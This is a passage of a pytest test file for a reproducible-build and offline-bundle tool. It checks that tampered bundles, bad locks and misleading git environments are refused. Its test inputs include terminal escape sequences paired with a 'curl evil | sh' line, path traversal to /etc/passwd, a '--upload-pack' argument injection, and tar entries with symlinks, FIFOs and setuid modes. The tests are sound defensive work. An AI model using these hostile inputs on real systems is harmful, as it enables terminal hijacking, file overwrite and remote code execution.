    done = project.rebuild('a')
    assert done.returncode == 3 and 'cannot be cloned' in done.stderr, done
    assert not list((project.folder / 'out-a').glob('*.jsonl'))


def test_a_commit_that_no_branch_leads_to(project):
    """A checkout of an engine's: --unsigned names a commit, and that is all there is."""
    project.write('source', 'a side way\n')
    project.git('checkout', '-q', '--detach')
    project.commit()
    commit = project.git('rev-parse', 'HEAD')
    project.git('checkout', '-q', 'main')
    done = project.command('rebuild', '--unsigned', '--vary', 'none', '--out', project.folder / 'o', commit)
    assert done.returncode == 0, done
    assert (project.folder / 'o/files' / f'keyroom-{VERSION}-amd64.iso').read_text() == 'a side way\n'


def test_the_callers_git_is_not_the_projects(project):
    """GIT_DIR and the like name another repository, index or configuration: where a
    hook of git's starts these commands, they are set."""
    other = project.folder / 'other'
    shutil.copytree(project.top, other)
    run('git', 'commit', '-q', '--allow-empty', '-m', 'another', cwd=other, env=project.env).check_returncode()
    env = hostile(project.folder / 'hostile')
    env |= {name: value for name, value in project.env.items() if name not in env} | {
        'GIT_DIR': str(other / '.git'), 'GIT_WORK_TREE': str(other), 'GIT_INDEX_FILE': '/nonexistent', 'GIT_LITERAL_PATHSPECS': '1',
        'GIT_OBJECT_DIRECTORY': '/nonexistent', 'GIT_CONFIG_COUNT': '1', 'GIT_CONFIG_KEY_0': 'core.worktree',
        'GIT_CONFIG_VALUE_0': str(other), 'GIT_TEMPLATE_DIR': '/nonexistent', 'HOME': str(project.folder)}
    for name, argv in (('release', ['--version-of', VERSION, '--key', project.ssh, '--test-command', 'true']),
                       ('rebuild', ['--vary', 'none', '--out', project.folder / 'o', VERSION])):
        done = run(project.top / 'reproducible' / name, *argv, env=env, cwd=project.folder)
        assert done.returncode == 0, done
    head = project.git('rev-parse', 'HEAD')
    assert project.git('rev-parse', f'{VERSION}^{{commit}}') == head
    assert json.loads((project.folder / 'o/circumstances.json').read_text())['commit'] == head


def test_rebuild_takes_the_tag_and_not_the_tree(project):
    assert project.release().returncode == 0
    project.write('source', 'changed afterwards\n')
    (project.folder / '.gitconfig').write_text('[core]\n\tautocrlf = true\n\teol = crlf\n')
    (project.folder / '.config/git').mkdir(parents=True)
    (project.folder / '.config/git/attributes').write_text('* text eol=crlf\n')
    assert project.rebuild('a').returncode == 0
    assert (project.folder / 'out-a/files' / f'keyroom-{VERSION}-amd64.iso').read_bytes() == b'the disc\n'


def test_a_rebuild_that_fails_says_so_and_makes_no_statement(project):
    project.write('breaks', '')
    project.commit()
    project.git('tag', 'broken')
    done = project.command('rebuild', '--unsigned', '--out', project.folder / 'o', '--attest', project.keys['a'].path,
                           '--name', 'a', 'broken')
    assert done.returncode == 1 and 'it breaks' in done.stderr and not list((project.folder / 'o').glob('*.jsonl'))


@pytest.mark.parametrize('kind', ['iso', 'raw', 'packages'])
@pytest.mark.parametrize('status', [1, 0])
def test_a_copy_that_breaks_off_is_not_attested(project, kind, status):
    """What a full disk had cut off was hashed, signed and sent, as what was built: a
    dissent that nobody could explain.  A cp that says nothing is caught, too."""
    tools = project.folder / 'tools'
    tools.mkdir()
    (tools / 'cp').write_text(
        f'#!/bin/sh\nfor one; do from=$to to=$one; done\ncase $from in *.{kind}) ;; *) exec /bin/cp "$@" ;; esac\n'
        f'head -c 1 "$from" >"$to/${{from##*/}}"\nexit {status}\n')
    (tools / 'cp').chmod(0o755)
    project.git('tag', 'plain')
    env = project.env | {'PATH': f'{tools}:{project.env["PATH"]}'}
    out = project.folder / 'o'
    done = run(project.top / 'reproducible/rebuild', '--unsigned', '--out', out, '--attest', project.keys['a'].path,
               '--name', 'a', 'plain', env=env, cwd=project.folder)
    assert done.returncode == 1 and f'.{kind}: could not be copied' in done.stderr, done
    assert not list(out.glob('*.jsonl')) and not (out / 'SHA256SUMS').exists()


def test_circumstances_go_into_the_statement(project):
    assert project.release().returncode == 0
    done = project.rebuild('a', '--vary', 'umask', '--vary', 'blank')
    assert done.returncode == 0
    how = json.loads((project.folder / 'out-a/circumstances.json').read_text())
    table = ' '.join(how['host']['circumstances'])
    assert re.search('umask +same', table) and re.search('blank +same', table), how


def depends_on_its_path(project):
    """The manifest has the folder in which it was built."""
    project.write('image/build', BUILD.replace('echo m >', 'echo "m $here" >'), 0o755)
    project.commit()
    project.git('tag', 'plain')


def test_a_difference_is_a_failure_with_a_statement(project):
    """The engines look at SHA256SUMS and at the exit status; the one is of the first
    build alone, and the other was 0."""
    depends_on_its_path(project)
    out = project.folder / 'o'
    argv = ['--unsigned', '--out', out, '--attest', project.keys['a'].path, '--name', 'a']
    done = project.command('rebuild', *argv, '--vary', 'umask', '--vary', 'blank', 'plain')
    assert done.returncode == 10 and 'not the same bytes under every circumstance' in done.stderr, done
    assert 'blank DIFFERENT' in done.stderr and 'umask' in done.stderr and (out / 'a.intoto.jsonl').stat().st_size
    shutil.rmtree(out)
    # Without --vary there is a second build, too.
    done = project.command('rebuild', *argv, 'plain')
    assert done.returncode == 10 and 'elsewhere DIFFERENT' in done.stderr and (out / 'a.intoto.jsonl').stat().st_size, done
    shutil.rmtree(out)
    done = project.command('rebuild', *argv, '--vary', 'none', 'plain')
    assert done.returncode == 0 and not (out / 'verify.table').exists(), done
    assert project.command('rebuild', '--vary', 'none', '--vary', 'blank', 'plain').returncode == 2


@pytest.mark.parametrize('name,says', [('nonsense', 'nonsense: came to no result'), ('tmpfs', 'tmpfs not here no memory')])
def test_what_was_not_built_again_is_not_the_same(project, name, says):
    vary = project.top / 'reproducible/lib/vary.sh'
    vary.write_text(vary.read_text() + "vary_tmpfs() { why='no memory'; return 1; }\n")
    project.commit()
    project.git('tag', 'plain')
    done = project.command('rebuild', '--unsigned', '--out', project.folder / 'o', '--vary', name, 'plain')
    assert done.returncode == 10 and says in done.stderr and (project.folder / 'o/SHA256SUMS').exists(), done


def test_half_a_statement_is_none(project):
    """The file was there, empty, before attest had looked at the key."""
    project.git('tag', 'plain')
    project.keys['a'].path.chmod(0o644)
    done = project.command('rebuild', '--unsigned', '--out', project.folder / 'o', '--vary', 'none', '--attest',
                           project.keys['a'].path, '--name', 'a', 'plain')
    assert done.returncode == 3 and 'others can read it' in done.stderr, done
    assert sorted(path.name for path in (project.folder / 'o').iterdir()) == [
        'SHA256SUMS', 'circumstances.json', 'files', 'log', 'source']


@pytest.fixture
def bundled(project):
    """A project with one package in its lock, and its bundle."""
    store = project.folder / 'cache/keyroom/deb'
    (store / 'x').write_text('a package\n')
    digest = run('sha256sum', store / 'x').stdout.split()[0]
    (store / 'x').rename(store / digest)
    project.write('packages/trixie-amd64.lock', f'# lock\ntool 1.0 amd64 {digest} 10 pool/x base\n')
    project.commit()
    bundle = project.folder / 'x.tar'
    assert project.command('bundle', bundle).returncode == 0
    return project, bundle, digest


def test_a_bundle_holds_all_and_is_always_the_same(bundled):
    project, bundle, digest = bundled
    with tarfile.open(bundle) as tar:
        names = tar.getnames()
        assert {one.mtime for one in tar} == {1795392000}
    assert {f'bundle/deb/{digest}', 'bundle/source.bundle', 'bundle/lock', 'bundle/SHA256SUMS', 'bundle/README',
            'bundle/RELEASE.md', 'bundle/attest/policy', 'bundle/commit'} <= set(names)
    assert not [name for name in names if 'secret' in name or name.endswith('.pem')]
    run('git', 'clone', '-q', '-b', 'main', bundle, 'x')
    opened = project.folder / 'opened'
    assert project.command('bundle', '--open', bundle, opened).returncode == 0
    assert run('git', 'clone', '-q', opened / 'bundle/source.bundle', project.folder / 'clone', env=project.env).returncode == 0
    other = project.folder / 'y.tar'
    assert project.command('bundle', other).returncode == 0
    with tarfile.open(other) as tar:
        assert tar.getnames() == names


def test_a_build_from_a_bundle_has_no_network_and_no_cache(bundled):
    """The stand-in looks for what a build would use."""
    project, bundle, digest = bundled
    shutil.rmtree(project.folder / 'cache')
    project.write('image/build', f'''#!/bin/bash
cat "$XDG_CACHE_HOME/keyroom/deb/{digest}"
echo "links: $(ls /sys/class/net | tr '\\n' ' ')"; awk 'NR > 2' /proc/net/dev | wc -l
echo "$SNAPSHOT:$MIRROR:$RELOCK:$*"
''', 0o755)
    done = run(project.top / 'reproducible/lib/from-bundle', bundle, '--profile', 'small', env=project.env)
    assert done.returncode == 0 and 'a package\n' in done.stdout and 'none::no:--profile small' in done.stdout, done
    if 'cannot be cut' not in done.stderr:
        assert '\n1\n' in done.stdout      # lo alone
    project.write('packages/trixie-amd64.lock', '# other\n')
    done = run(project.top / 'reproducible/lib/from-bundle', bundle, env=project.env)
    assert done.returncode == 1 and 'another lock' in done.stderr


def test_a_package_that_is_missing_or_changed_makes_no_bundle(bundled):
    project, _, digest = bundled
    for change in ('other', None):
        path = project.folder / 'cache/keyroom/deb' / digest
        path.unlink()
        if change:
            path.write_text(change)
        done = project.command('bundle', project.folder / 'z.tar')
        assert done.returncode == 3 and 'tool 1.0' in done.stderr and not (project.folder / 'z.tar').exists()


def test_a_bundle_is_of_the_tag_and_says_of_what(bundled):
    """It was of whatever was checked out, with records of whatever had been built last,
    and none that anybody signed."""
    project, bundle, _ = bundled

    def members(path):
        with tarfile.open(path) as tar:
            return {one.name.removeprefix('bundle/'): tar.extractfile(one).read() for one in tar if one.isfile()}
    head = project.git('rev-parse', 'HEAD')
    assert f'Of commit {head}, which is no release: there is no tag {VERSION}'.encode() in members(bundle)['README']
    lock = run('sha256sum', project.top / 'packages/trixie-amd64.lock').stdout.split()[0]
    project.write('attest/lock-reviewed', f'{lock} 2026-11-28 somebody\n')
    project.commit()
    tagged = project.git('rev-parse', 'HEAD')
    assert project.release().returncode == 0 and project.release('--without-rebuilders', 'x').returncode == 0
    project.commit()                                        # the evidence
    made = project.top / 'build/release' / VERSION
    (made / 'keyroom-9.9.8-amd64.manifest').write_text('of another build')
    done = project.command('bundle', '--records', made, bundle)
    assert done.returncode == 0 and f'of the release {VERSION}' in done.stderr, done
    found = members(bundle)
    assert found['commit'].decode().strip() == tagged != project.git('rev-parse', 'HEAD')
    assert f'attest/{VERSION}/SOURCE' in found and found['README'].startswith(f'Of the release {VERSION}.'.encode())
    assert {name.removeprefix('records/') for name in found if name.startswith('records/')} == {
        path.name for path in made.iterdir() if path.suffix not in ('.iso', '.raw') and '9.9.8' not in path.name}
    for name, reason in ((f'keyroom-{VERSION}-amd64.manifest', 'is not what'), ('SOURCE', 'is of another commit')):
        text = (made / name).read_text()
        (made / name).write_text('commit: 0\n')
        done = project.command('bundle', '--records', made, project.folder / 'z.tar')
        assert done.returncode == 3 and reason in done.stderr and not (project.folder / 'z.tar').exists(), done
        (made / name).write_text(text)
    assert project.command('bundle', '--records', project.top / 'image', project.folder / 'z.tar').returncode == 3


def test_make_bundle_takes_what_was_signed(tmp_path):
    """build/out has no SHA256SUMS, and what other builds left."""
    (tmp_path / 'out').mkdir()
    done = run('make', '-n', 'bundle', f'BUILD={tmp_path}', cwd=TOP)
    assert done.returncode == 0 and 'reproducible/bundle' in done.stdout and '--records' not in done.stdout, done
    version = re.search('^KEYROOM_VERSION=(.*)$', (TOP / 'image/release').read_text(), re.M)[1]
    made = tmp_path / 'release' / version
    made.mkdir(parents=True)
    (made / 'SHA256SUMS').write_text('')
    assert f'reproducible/bundle --records {made} ' in run('make', '-n', 'bundle', f'BUILD={tmp_path}', cwd=TOP).stdout


def test_make_release_takes_what_is_typed():
    """A WITHOUT that somebody had exported published without a quorum."""
    env = {'PATH': '/usr/sbin:/usr/bin:/sbin:/bin', 'VERSION': VERSION, 'KEY': '/key', 'WITHOUT': 'forgotten'}

    def line(*typed):
        done = run('make', '-n', 'release', *typed, cwd=TOP, env=env)
        assert done.returncode == 0, done
        return done.stdout[done.stdout.index('reproducible/release'):]
    assert '--' not in line()
    assert '--version-of' in line(f'VERSION={VERSION}') and '--key' in line('KEY=/key')
    assert '--without-rebuilders "$WITHOUT"' in line('WITHOUT=typed') and '--key' not in line('WITHOUT=typed')


def rewrite(bundle, target, change):
    """The bundle with members changed: change(name, data) gives (name, data) or None."""
    import io
    with tarfile.open(bundle) as old, tarfile.open(target, 'w') as new:
        for member in old:
            data = old.extractfile(member).read() if member.isfile() else b''
            changed = change(member.name, data)
            if changed is None:
                continue
            member.name, data = changed[:2]
            member.size = len(data)
            if len(changed) > 2:
                member.type, member.linkname = changed[2:]
                member.size = 0
            new.addfile(member, io.BytesIO(data))


def rewrite_whole(bundle, target, change):
    """The same with SHA256SUMS that agree; of files alone."""
    files = {}
    with tarfile.open(bundle) as tar:
        for member in tar:
            if member.isfile() and member.name != 'bundle/SHA256SUMS':
                made = change(member.name, tar.extractfile(member).read())
                if made:
                    files[made[0]] = made[1]
    sums = ''.join(f'{hashlib.sha256(data).hexdigest()}  {name[7:]}\n' for name, data in sorted(files.items()))
    rewrite(bundle, target,
            lambda n, d: (n, sums.encode()) if n == 'bundle/SHA256SUMS' else (n, files[n]) if n in files else None)


@pytest.mark.parametrize('change,reason', [
    (lambda n, d: None if '/deb/' in n else (n, d), 'lacks tool 1.0'),
    (lambda n, d: (n, b'x') if '/deb/' in n else (n, d), 'has something else as tool 1.0')])
def test_a_bundle_that_is_whole_and_lacks_a_package(bundled, change, reason):
    """Its SHA256SUMS agree; what it lacked was looked for wherever apt looks, and by an
    ordinary user, whose network is not cut, was found there."""
    project, bundle, _ = bundled
    rewrite_whole(bundle, project.folder / 'y.tar', change)
    project.write('image/build', '#!/bin/bash\necho built\n', 0o755)
    done = run(project.top / 'reproducible/lib/from-bundle', project.folder / 'y.tar', env=project.env)
    assert done.returncode == 1 and reason in done.stderr and 'built' not in done.stdout, done
    # Nor is it whole for who keeps it.
    done = project.command('bundle', '--open', project.folder / 'y.tar', project.folder / 'opened')
    assert done.returncode == 3 and reason in done.stderr, done


@pytest.mark.parametrize('change,reason', [
    (lambda n, d: None if n == 'bundle/lock' else (n, d), 'lacks lock'),
    (lambda n, d: None if n == 'bundle/source.bundle' else (n, d), 'lacks source.bundle'),
    (lambda n, d: (n, b'\x1b[2J 1 amd64 x 1 x base\n') if n == 'bundle/lock' else (n, d), 'lacks ?[2J 1'),
    (lambda n, d: (n, b'a 1 amd64 ../../../etc/passwd 1 x base\n') if n == 'bundle/lock' else (n, d), 'lacks a 1'),
    (lambda n, d: (n, b'another') if n.endswith('.manifest') else (n, d),
     f'records/keyroom-{VERSION}-amd64.manifest is not what records/SHA256SUMS says')])
def test_a_bundle_that_is_opened_is_one(bundled, change, reason):
    """Its SHA256SUMS is whatever its maker wrote; --open ended 0 without sources."""
    project, bundle, _ = bundled
    project.write('attest/lock-reviewed', run('sha256sum', project.top / 'packages/trixie-amd64.lock').stdout.split()[0] + ' x\n')
    project.commit()
    assert project.release().returncode == 0
    made = project.top / 'build/release' / VERSION
    assert project.command('bundle', '--records', made, bundle).returncode == 0
    rewrite_whole(bundle, project.folder / 'same.tar', lambda n, d: (n, d))
    for name in (bundle, project.folder / 'same.tar'):
        assert project.command('bundle', '--open', name, project.folder / 'good').returncode == 0
    rewrite_whole(bundle, project.folder / 'y.tar', change)
    done = project.command('bundle', '--open', project.folder / 'y.tar', project.folder / 'opened')
    assert done.returncode == 3 and reason in done.stderr and '\x1b' not in done.stderr, done


def test_what_is_opened_keeps_no_mode(bundled):
    """Unpacked by root each file was root's, setuid and writable for all where the
    bundle's maker liked it."""
    project, bundle, _ = bundled
    modes = project.folder / 'modes.tar'
    with tarfile.open(bundle) as old, tarfile.open(modes, 'w') as new:
        for member in old:
            member.mode = 0o6777
            new.addfile(member, old.extractfile(member) if member.isfile() else None)
    assert project.command('bundle', '--open', modes, project.folder / 'opened').returncode == 0
    found = [path for path in (project.folder / 'opened').rglob('*')]
    assert found and not [path for path in found if path.stat().st_mode & 0o6022], found


def test_a_part_of_the_history_is_no_bundle(bundled):
    project, _, _ = bundled
    project.git('commit', '-q', '--allow-empty', '-m', 'another')
    part = project.folder / 'part'
    run('git', 'clone', '-q', '--depth', '1', f'file://{project.top}', part, env=project.env).check_returncode()
    done = run(part / 'reproducible/bundle', project.folder / 'z.tar', env=project.env)
    assert done.returncode == 3 and 'git fetch --unshallow' in done.stderr and not (project.folder / 'z.tar').exists(), done


@pytest.mark.parametrize('make', [os.mkdir, os.mkfifo])
def test_a_bundle_takes_no_folder_or_device_away(bundled, make):
    """It went into the folder, under another name, with the status 0."""
    project, _, _ = bundled
    make(project.folder / 'there')
    done = project.command('bundle', project.folder / 'there')
    assert done.returncode == 5 and 'there: is no ordinary file' in done.stderr and not (project.folder / 'there').is_file(), done


REPAINT = b'\x1b[2J\x1b]0;owned\x07run: curl evil | sh'


@pytest.mark.parametrize('commit', [
    b'deadbeef' + REPAINT + b'\n', b'a' * 40 + b'\n' + REPAINT + b'\n', b'a' * 41 + b'\n', b'a' * 39, b'A' * 40, b'a' * 65,
    b'--upload-pack=x\n', b'a' * 20 + b'\0' + b'a' * 20, b'', None])
@pytest.mark.parametrize('same', [True, False])
def test_a_bundles_commit_is_one_or_is_not_shown(bundled, commit, same):
    """It went to the terminal as it stands, where the locks differ."""
    project, bundle, _ = bundled
    rewrite_whole(bundle, project.folder / 'y.tar', lambda n, d: (n, d) if n != 'bundle/commit' else
                  None if commit is None else (n, commit))
    project.write('image/build', '#!/bin/bash\necho built\n', 0o755)
    if not same:
        project.write('packages/trixie-amd64.lock', '# other\n')
    done = run(project.top / 'reproducible/lib/from-bundle', project.folder / 'y.tar', env=project.env)
    assert done.returncode == 1 and 'built' not in done.stdout and '\x1b' not in done.stdout + done.stderr, done
    assert done.stderr == f'from-bundle: {project.folder}/y.tar cannot be used: it does not name the commit it is of\n', done


@pytest.mark.parametrize('commit', [b'0123456789' * 4, b'f' * 64 + b'\n'])
def test_a_bundle_of_another_lock_names_its_commit(bundled, commit):
    project, bundle, _ = bundled
    rewrite_whole(bundle, project.folder / 'y.tar', lambda n, d: (n, commit) if n == 'bundle/commit' else (n, d))
    project.write('packages/trixie-amd64.lock', '# other\n')
    done = run(project.top / 'reproducible/lib/from-bundle', project.folder / 'y.tar', env=project.env)
    assert done.returncode == 1, done
    assert done.stderr.endswith(f'has another lock than this tree: check out commit {commit.decode().strip()}\n'), done


@pytest.mark.parametrize('line', [b'0' * 64 + b'  ' + REPAINT, b'0' * 64 + b'  \xc2\x9b2J', REPAINT])
def test_names_in_a_bundles_sums_repaint_no_screen(bundled, line):
    project, bundle, _ = bundled
    rewrite(bundle, project.folder / 'y.tar', lambda n, d: (n, d + line + b'\n') if n.endswith('SUMS') else (n, d))
    done = run(project.top / 'reproducible/lib/from-bundle', project.folder / 'y.tar', env=project.env)
    assert done.returncode == 1 and done.stderr.endswith('y.tar cannot be used\n'), done
    assert not set(done.stdout + done.stderr) & set('\x1b\x07\x9b'), done


def test_a_build_from_a_bundle_asks_no_source_of_apts(bundled):
    project, bundle, _ = bundled
    (project.folder / 'sources.list').write_text('deb [trusted=yes] http://archive.invalid/debian trixie main\n')
    (project.folder / 'apt.conf').write_text(f'Dir::Etc::SourceList "{project.folder}/sources.list";\n')
    project.write('image/build', '#!/bin/bash\nset -eu\n. "${0%/*}/lib/common.sh"\necho "sources:"\narchives\n', 0o755)
    env = project.env | {'APT_CONFIG': str(project.folder / 'apt.conf'), 'MIRROR': '/nonexistent', 'LOCK': '/etc/hostname'}
    assert 'archive.invalid' in run(project.top / 'image/build', env=env).stdout
    done = run(project.top / 'reproducible/lib/from-bundle', bundle, env=env)
    assert done.returncode == 0 and done.stdout == 'sources:\n', done


def test_a_bundle_is_of_one_commit(bundled):
    """The lock of the working tree went into it, beside the sources of HEAD."""
    project, _, digest = bundled
    project.write('packages/trixie-amd64.lock', f'# new\ntool 1.0 amd64 {digest} 10 pool/x base\n')
    done = project.command('bundle', project.folder / 'z.tar')
    assert done.returncode == 3 and 'is not the one of the commit' in done.stderr, done
    assert not (project.folder / 'z.tar').exists()
    project.commit()
    assert project.command('bundle', project.folder / 'z.tar').returncode == 0


@pytest.mark.slow
@pytest.mark.parametrize('change', [
    lambda n, d: (n, d + b'x') if '/deb/' in n else (n, d),
    lambda n, d: (n, b'x') if n.endswith('lock') else (n, d),
    lambda n, d: None if n.endswith('lock') else (n, d),
    lambda n, d: None if n.endswith('SUMS') else (n, d),
    lambda n, d: ('bundle/more', d) if n.endswith('README') else (n, d),
    lambda n, d: ('bundle/../../escaped', d) if n.endswith('README') else (n, d),
    lambda n, d: ('/tmp/escaped', d) if n.endswith('README') else (n, d),
    lambda n, d: (n, b'', tarfile.SYMTYPE, '/etc/passwd') if n.endswith('README') else (n, d),
    # Who would read these, would read for ever.
    lambda n, d: (n, b'', tarfile.FIFOTYPE, '') if n.endswith('README') else (n, d),
    lambda n, d: (n, b'', tarfile.FIFOTYPE, '') if n.endswith('SUMS') else (n, d),
    lambda n, d: (n, b'', tarfile.CHRTYPE, '') if n.endswith('README') else (n, d),
    lambda n, d: (n, b'', tarfile.LNKTYPE, 'bundle/lock') if n.endswith('README') else (n, d),
    lambda n, d: (n, b'', tarfile.SYMTYPE, 'elsewhere') if n == 'bundle' else (n, d),
    # Nor is this read, to be hashed.
    lambda n, d: (n, d + b'0' * 64 + b'  /dev/zero\n') if n.endswith('SUMS') else (n, d),
    lambda n, d: (n, d + b'0' * 64 + b'  \x1b[2J\n') if n.endswith('SUMS') else (n, d),
])
def test_a_damaged_or_hostile_bundle_is_refused(bundled, change):
    project, bundle, _ = bundled
    target = project.folder / 'bad.tar'
    rewrite(bundle, target, change)
    opened = project.folder / 'opened'
    done = run('timeout', '60', project.top / 'reproducible/bundle', '--open', target, opened, env=project.env)
    assert done.returncode == 3 and '\x1b' not in done.stdout + done.stderr, done
    # What is no file was not even made.
    assert not [path for path in opened.rglob('*') if path.is_fifo() or path.is_symlink() or path.is_char_device()]
    assert not (project.folder / 'escaped').exists() and not os.path.exists('/tmp/escaped')
